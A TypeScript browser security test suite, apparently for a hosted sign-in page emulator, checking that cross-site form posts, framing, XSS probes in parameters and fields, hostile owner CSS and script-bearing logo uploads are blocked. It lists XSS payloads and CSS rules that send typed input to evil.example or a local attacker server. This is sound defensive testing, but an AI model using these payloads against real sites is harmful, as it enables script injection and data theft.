/**
 * Attacks on people in a browser: pages of another site, probes in everything that a page shows, looks that a pool's
 * owner sets. The other site is another host, so that the browser keeps its rules between sites.
 */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { replacePages } from "../../src/hosted/page-settings.ts";
import { authorizeUrl, csrfOf, newVisitor } from "../support/browser-steps.ts";
import { useClientPage } from "../support/client-page.ts";
import { useHouse } from "../support/house.ts";
import { makePool, password, type TestPool } from "../support/pool.ts";
import { sendSignIn, useBrowser } from "../support/visiting.ts";

const house = useHouse();
const client = useClientPage();
const { onPage } = useBrowser();
let evil: Server;
let evilOrigin: string;
/** What the other site shows next, and what it was asked for. */
let evilHtml = "";
const evilRequests: string[] = [];

async function listen(server: Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return (server.address() as AddressInfo).port;
}

beforeAll(async () => {
  evil = createServer((request, response) => {
    evilRequests.push(request.url ?? "");
    response.setHeader("content-type", "text/html");
    response.end(`<!doctype html><title>Evil</title>${evilHtml}`);
  });
  evilOrigin = `http://127.0.0.1:${await listen(evil)}`;
});

afterAll(async () => {
  await new Promise((resolve) => evil.close(resolve));
});

const poolWith = (wanted: Parameters<typeof makePool>[1] = {}): Promise<TestPool> =>
  makePool(house, { ...wanted, client: { CallbackURLs: [client.callback], ...wanted.client } });

const urlOf = (pool: TestPool, changes: Readonly<Record<string, string>> = {}): string =>
  authorizeUrl(pool, { redirect_uri: client.callback, ...changes });

/** Opens a page in a browser that nobody has used. What it refuses to do is the point of these tests, and it complains of that. */
const inBrowser = (visit: (page: Page) => Promise<void>): Promise<void> => onPage({ expected: /./s }, visit);

async function signIn(page: Page, pool: TestPool, email: string): Promise<void> {
  await page.goto(urlOf(pool));
  await sendSignIn(page, email, password);
  await page.waitForURL(`${client.callback}**`);
}

/** Whether the pages know who uses this browser. */
async function isSignedIn(page: Page, pool: TestPool): Promise<boolean> {
  await page.goto(urlOf(pool, { prompt: "none" }));
  return new URL(page.url()).searchParams.has("code");
}

/** A page of the other site that sends a form as soon as it is opened. */
const sendingForm = (action: string, fields: Readonly<Record<string, string>>): string =>
  `<form method="post" action="${action.replaceAll("&", "&amp;")}">${Object.entries(fields)
    .map(([name, value]) => `<input name="${name}" value="${value}">`)
    .join("")}</form><script>document.forms[0].submit()</script>`;

describe("a page of another site", () => {
  it.each([
    ["login", { username: "attacker@example.com", password }],
    ["login", { resume: "yes" }],
    ["signup", { username: "new@example.com", password }],
    ["confirm", { username: "attacker@example.com", code: "123456" }],
    ["resendcode", { username: "attacker@example.com" }],
    ["forgotPassword", { username: "attacker@example.com" }],
    ["confirmForgotPassword", { username: "a", ConfirmationCode: "1", new_password: "x", confirm_password: "x" }],
    ["changePassword", { new_password: "x", confirm_password: "x" }],
    ["verifyPassword", { password }],
    ["mfa", { code: "123456" }],
    ["mfaOption", { choice: "SMS_MFA" }],
    ["mfaSetup", { code: "123456" }],
    ["factor", { choice: "PASSWORD" }],
    ["passkey", { begin: "yes" }],
    ["passkeys/add", { skip: "yes" }],
  ])("WEB-01: cannot send the form of /%s, with a token of the attacker's or without", async (path, fields) => {
    const pool = await poolWith();
    await pool.createUser("attacker@example.com");
    const attacker = newVisitor();
    const login = (await attacker.visit(urlOf(pool))).headers.get("location") ?? "";
    const token = csrfOf(await (await attacker.visit(login)).text());
    for (const _csrf of [undefined, token]) {
      await inBrowser(async (page) => {
        // The victim has a page of ours open, and so a token of its own.
        await page.goto(login);
        evilHtml = sendingForm(login.replace("/login?", `/${path}?`), { ...fields, ...(_csrf && { _csrf }) });
        const [answer] = await Promise.all([
          page.waitForResponse((response) => response.request().method() === "POST"),
          page.goto(evilOrigin, { waitUntil: "commit" }),
        ]);
        expect(answer.status()).toBe(403);
        await page.locator("h1:visible").first().waitFor();
        expect(await isSignedIn(page, pool)).toBe(false);
      });
    }
  });

  it("WEB-05: cannot sign anybody out by what a page loads without being asked", async () => {
    const pool = await poolWith({ client: { LogoutURLs: [client.callback] } });
    await pool.createUser("stay@example.com");
    await inBrowser(async (page) => {
      await signIn(page, pool, "stay@example.com");
      const logout = `${pool.base}/logout?${new URLSearchParams({ client_id: pool.ClientId, logout_uri: client.callback })}`;
      evilHtml = `<img src="${logout.replaceAll("&", "&amp;")}"><iframe src="${logout.replaceAll("&", "&amp;")}"></iframe>`;
      await page.goto(evilOrigin, { waitUntil: "networkidle" });
      expect(await isSignedIn(page, pool)).toBe(true);
    });
  });

  it.each(["login", "signup", "forgotPassword", "error"])("WEB-10: cannot put /%s into a frame", async (path) => {
    const pool = await poolWith();
    await inBrowser(async (page) => {
      const target = urlOf(pool).replace("/oauth2/authorize?", `/${path}?`);
      evilHtml = `<iframe src="${target.replaceAll("&", "&amp;")}"></iframe>`;
      await page.goto(evilOrigin, { waitUntil: "networkidle" });
      const [, frame] = page.frames();
      expect(await frame?.locator("h1").count()).toBe(0);
      expect(frame?.url()).toBe("chrome-error://chromewebdata/");
    });
  });

  it("WEB-12: that opens a page of ours in a window gets no hold of it", async () => {
    const pool = await poolWith();
    await inBrowser(async (page) => {
      evilHtml = `<button onclick="window.opened = window.open('${urlOf(pool)}')">Open</button>`;
      await page.goto(evilOrigin);
      const [opened] = await Promise.all([page.context().waitForEvent("page"), page.locator("button").click()]);
      await opened.locator("h1:visible").first().waitFor();
      expect(await opened.evaluate("window.opener")).toBeNull();
      await expect.poll(() => page.evaluate("window.opened.closed")).toBe(true);
    });
  });
});

describe("somebody else's browser", () => {
  it("WEB-03: cannot finish what another has begun, by its address or with the right code", async () => {
    const pool = await poolWith();
    const { UserPoolId } = pool;
    await house.api.setUserPoolMfaConfig({
      UserPoolId,
      MfaConfiguration: "ON",
      SmsMfaConfiguration: {
        SmsConfiguration: { SnsCallerArn: "arn:aws:iam::123456789012:role/sms", ExternalId: "x" },
      },
    });
    await pool.createUser("begun@example.com");
    const UserAttributes = [{ Name: "phone_number", Value: "+14325550177" }];
    await house.api.adminUpdateUserAttributes({ UserPoolId, Username: "begun@example.com", UserAttributes });
    let address = "";
    await inBrowser(async (page) => {
      await page.goto(urlOf(pool));
      await page.locator("#signInFormUsername:visible").fill("begun@example.com");
      await page.locator("#signInFormPassword:visible").fill(password);
      await page.locator("[name=signInSubmitButton]:visible").click();
      await page.locator("#smsCodeInput:visible").waitFor();
      address = page.url();
    });
    await inBrowser(async (page) => {
      await page.goto(address);
      expect(await page.locator("#signInFormUsername:visible").count()).toBe(1);
      const code = await house.codeFor("+14325550177");
      const token = await page.locator('[name="_csrf"]').first().inputValue();
      const answer = await page.request.post(address, { form: { _csrf: token, code }, maxRedirects: 0 });
      expect([answer.status(), new URL(answer.headers()["location"] ?? "").pathname]).toEqual([
        302,
        `/${pool.domain}/login`,
      ]);
      expect(await isSignedIn(page, pool)).toBe(false);
    });
  });

  it("WEB-13: does not get back to a page from its history once somebody has signed out", async () => {
    const pool = await poolWith({ client: { LogoutURLs: [client.callback] } });
    await pool.createUser("private@example.com");
    await inBrowser(async (page) => {
      await signIn(page, pool, "private@example.com");
      await page.goto(urlOf(pool).replace("/oauth2/authorize?", "/login?"));
      expect(await page.locator("body").textContent()).toContain("private@example.com");
      await page.goto(
        `${pool.base}/logout?${new URLSearchParams({ client_id: pool.ClientId, logout_uri: client.callback })}`,
      );
      await page.goBack();
      await page.locator("#signInFormUsername:visible").waitFor();
      expect(await page.content()).not.toContain("private@example.com");
    });
  });
});

/** Source: the shapes of the common lists of probes: element, attribute, address, entity, template, comment, style. */
const probes = [
  "<script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus="alert(1)',
  "<svg/onload=alert(1)>",
  "<svg><script>alert&#40;1)</script>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<input onfocus=alert(1) autofocus>",
  "<a href=javascript:alert(1)>x</a>",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<style>*{background:url(javascript:alert(1))}</style>",
  "</style><script>alert(1)</script>",
  "<!--><script>alert(1)</script>-->",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href=//127.0.0.1/>",
  "<object data=javascript:alert(1)>",
  "<form action=javascript:alert(1)><button>x",
  "{{constructor.constructor('alert(1)')()}}",
  `$${"{alert(1)}"}`,
  "\u2028alert(1)\u2029",
  "\u202Ealert(1)",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
  "＜script＞alert(1)＜/script＞",
];

/** Visits pages with a probe in everything that they are given, and gives what the browser did because of it. */
async function seenBy(pool: TestPool, probe: string): Promise<string[]> {
  const seen: string[] = [];
  await inBrowser(async (page) => {
    page.on("dialog", () => seen.push(`dialog on ${page.url()}`));
    page.on("request", (request) => {
      const isOurs = [house.url, client.callback, "data:,"].some((address) => request.url().startsWith(address));
      if (!isOurs) seen.push(`request of ${request.url()}`);
    });
    page.on("console", (message) => {
      if (/Content Security Policy/.test(message.text())) seen.push(message.text());
    });
    const given = { login_hint: probe, state: probe, nonce: probe, lang: probe, ui_locales: probe };
    await page.goto(urlOf(pool, given));
    await page.locator("#signInFormUsername:visible").fill(probe);
    await page.locator("#signInFormPassword:visible").fill(probe);
    await page.locator("[name=signInSubmitButton]:visible").click();
    await page.locator("#loginErrorMessage:visible").waitFor();
    const query = new URLSearchParams({
      error: probe,
      error_description: probe,
      state: probe,
      client_id: pool.ClientId,
    });
    await page.goto(`${pool.base}/error?${query}`);
    await page.goto(urlOf(pool, given).replace("/oauth2/authorize?", "/signup?"));
    await page.locator('[name="username"]:visible').fill(probe);
    await page.locator('[name="requiredAttributes[given_name]"]:visible').fill(probe);
    await page.locator('[name="requiredAttributes[email]"]:visible').fill("probe@example.com");
    await page.locator('[name="password"]:visible').fill("short");
    await page.locator('[name="signUpButton"]:visible').click();
    await page.locator(".errorMessage-customizable:visible").waitFor();
    await page.goto(urlOf(pool, given).replace("/oauth2/authorize?", "/forgotPassword?"));
    await page.locator('[name="username"]:visible').fill(probe);
    await page.locator('[name="reset_my_password"]:visible').click();
    await page.locator("h1:visible").first().waitFor();
  });
  return seen;
}

describe("what a page is given", () => {
  it("WEB-07: is shown as text, whatever it is and wherever it stands", { timeout: 180_000 }, async () => {
    const pool = await poolWith({
      pool: {
        PoolName: "probes",
        UsernameAttributes: [],
        Schema: [
          { Name: "given_name", Required: true, Mutable: true },
          { Name: "email", Required: true, Mutable: true },
        ],
      },
      client: { PreventUserExistenceErrors: "ENABLED" },
    });
    const found: string[] = [];
    for (const probe of probes) found.push(...(await seenBy(pool, probe)).map((what) => `${probe}: ${what}`));
    expect(found).toEqual([]);
  });

  it("WEB-07: is text in names that a user, a device and an owner chose", async () => {
    const probe = '"><img src=x onerror=alert(1)><script>alert(1)</script>';
    const pool = await poolWith({ pool: { UsernameAttributes: [] } });
    await replacePages(house.app, pool.UserPoolId, {
      texts: { en: { signInTitle: probe, signedInAs: `{name} ${probe}` } },
    });
    await house.api.adminCreateUser({ UserPoolId: pool.UserPoolId, Username: "probe", MessageAction: "SUPPRESS" });
    await house.api.adminSetUserPassword({
      UserPoolId: pool.UserPoolId,
      Username: "probe",
      Password: password,
      Permanent: true,
    });
    const seen: string[] = [];
    await inBrowser(async (page) => {
      page.on("dialog", (dialog) => seen.push(dialog.message()));
      page.on("console", (message) => {
        if (/Content Security Policy/.test(message.text())) seen.push(message.text());
      });
      await signIn(page, pool, "probe");
      await page.goto(urlOf(pool).replace("/oauth2/authorize?", "/login?"));
      expect(await page.locator("h1:visible").textContent()).toBe(probe);
      expect(await page.locator("main img").count()).toBe(0);
    });
    expect(seen).toEqual([]);
  });

  it("the policy would have stopped what got through all the same", async () => {
    const pool = await poolWith();
    await inBrowser(async (page) => {
      await page.goto(urlOf(pool));
      const ran = await page.evaluate(`new Promise((resolve) => {
        document.addEventListener("securitypolicyviolation", ({ violatedDirective }) => resolve(violatedDirective));
        const script = document.createElement("script");
        script.textContent = "window.ran = true";
        document.body.append(script);
      })`);
      expect(ran).toBe("script-src-elem");
      expect(await page.evaluate("window.ran")).toBeUndefined();
    });
  });
});

describe("the look that an owner sets", () => {
  it.each([
    ["the end of a style element", ".label-customizable { color: red } </style><script>alert(1)</script>"],
    ["a rule that imports", "@import url(//evil.example);"],
    ["a rule within a rule", "@media all { .label-customizable { color: red } }"],
    ["a selector that reads what is typed", 'input[value^="a"] { background: url(//evil.example/a) }'],
    ["one that hides behind an allowed class", '.inputField-customizable[value^="a"] { color: red }'],
    ["one beside an allowed class", ".label-customizable, body { display: none }"],
    ["a class that is not ours to style", ".modal-content { display: none }"],
    ["an expression", ".label-customizable { width: expression(alert(1)) }"],
    ["an address that runs", ".label-customizable { background: url(javascript:alert(1)) }"],
    ["an escape", ".label-customizable { background: \\75rl(//evil.example) }"],
    ["an open comment", ".label-customizable { color: red } /*"],
  ])("WEB-08: is refused with %s", async (_title, CSS) => {
    const pool = await poolWith();
    const refused = house.api.setUICustomization({ UserPoolId: pool.UserPoolId, ClientId: "ALL", CSS });
    await expect(refused).rejects.toMatchObject({ name: "InvalidParameterException" });
  });

  it("WEB-08: loads nothing from elsewhere, whatever address it names", async () => {
    const pool = await poolWith();
    const CSS = [
      `.background-customizable { background: url(${evilOrigin}/background); }`,
      `.inputField-customizable:focus { background-image: url("${evilOrigin}/typed"); }`,
      ".submitButton-customizable { background-color: #123456; }",
    ].join("\n");
    await house.api.setUICustomization({ UserPoolId: pool.UserPoolId, ClientId: "ALL", CSS });
    evilRequests.length = 0;
    await inBrowser(async (page) => {
      await page.goto(urlOf(pool), { waitUntil: "networkidle" });
      const color = `getComputedStyle(document.querySelector("[name=signInSubmitButton]")).backgroundColor`;
      expect(await page.evaluate(color)).toBe("rgb(18, 52, 86)");
      await page.locator("#signInFormUsername:visible").fill("typed");
    });
    expect(evilRequests).toEqual([]);
  });

  it("WEB-08: of managed login says colours, and nothing else gets into its sheet", async () => {
    const pool = await poolWith();
    const { UserPoolId, ClientId } = pool;
    await house.api.updateUserPoolDomain({ UserPoolId, Domain: pool.domain, ManagedLoginVersion: 2 });
    const color = `ffffff; } body { background: url(${evilOrigin}/sheet) } :root { --x: 1`;
    const Settings = { components: { pageBackground: { lightMode: { color }, darkMode: { color } } } };
    await house.api.createManagedLoginBranding({ UserPoolId, ClientId, Settings });
    evilRequests.length = 0;
    await inBrowser(async (page) => {
      await page.goto(urlOf(pool), { waitUntil: "networkidle" });
      expect(await page.locator("h1:visible").count()).toBe(1);
    });
    expect(evilRequests).toEqual([]);
  });
});

const png = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);
const runningSvg = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
);

describe("a picture that an owner uploads", () => {
  it.each([
    ["an SVG", runningSvg],
    ["HTML", Buffer.from("<script>alert(1)</script>")],
    ["a name of a PNG without its bytes", Buffer.from("PNG<script>alert(1)</script>")],
    ["a GIF that is a script", Buffer.from("GIF89a/*<script>*/=alert(1)")],
  ])("WEB-09: is refused as a logo of the classic pages when it is %s", async (_title, ImageFile) => {
    const pool = await poolWith();
    const refused = house.api.setUICustomization({ UserPoolId: pool.UserPoolId, ClientId: "ALL", ImageFile });
    await expect(refused).rejects.toMatchObject({ name: "InvalidParameterException" });
  });

  it.each([
    ["beyond the limit of the contract", 131_073],
    ["of fifty megabytes", 50 * 1024 * 1024],
  ])("WEB-09: is refused %s", { timeout: 30_000 }, async (_title, size) => {
    const pool = await poolWith();
    const ImageFile = Buffer.concat([png, Buffer.alloc(size - png.length)]);
    const refused = house.api.setUICustomization({ UserPoolId: pool.UserPoolId, ClientId: "ALL", ImageFile });
    await expect(refused).rejects.toThrow();
  });

  it("WEB-09: is served as what it is, though it is something else as well", async () => {
    const pool = await poolWith();
    const ImageFile = Buffer.concat([png, Buffer.from("<script>alert(1)</script>")]);
    await house.api.setUICustomization({ UserPoolId: pool.UserPoolId, ClientId: "ALL", ImageFile });
    await inBrowser(async (page) => {
      await page.goto(urlOf(pool));
      const src = (await page.locator("img.logo:visible").getAttribute("src")) ?? "";
      const answer = await fetch(house.url + src);
      expect(Object.fromEntries(answer.headers)).toMatchObject({
        "content-type": "image/png",
        "x-content-type-options": "nosniff",
        "content-security-policy": "default-src 'none'; sandbox",
      });
    });
  });

  it("WEB-09: runs nothing when it is an SVG of managed login, in a page or opened on its own", async () => {
    const pool = await poolWith();
    const { UserPoolId, ClientId } = pool;
    await house.api.updateUserPoolDomain({ UserPoolId, Domain: pool.domain, ManagedLoginVersion: 2 });
    await house.api.createManagedLoginBranding({
      UserPoolId,
      ClientId,
      Settings: {},
      Assets: [{ Category: "FORM_LOGO", ColorMode: "DYNAMIC", Extension: "SVG", Bytes: runningSvg }],
    });
    const seen: string[] = [];
    await inBrowser(async (page) => {
      page.on("dialog", (dialog) => seen.push(dialog.message()));
      await page.goto(urlOf(pool), { waitUntil: "networkidle" });
      const src = (await page.locator("img.logo").getAttribute("src")) ?? "";
      await page.goto(house.url + src, { waitUntil: "networkidle" });
    });
    expect(seen).toEqual([]);
  });
});
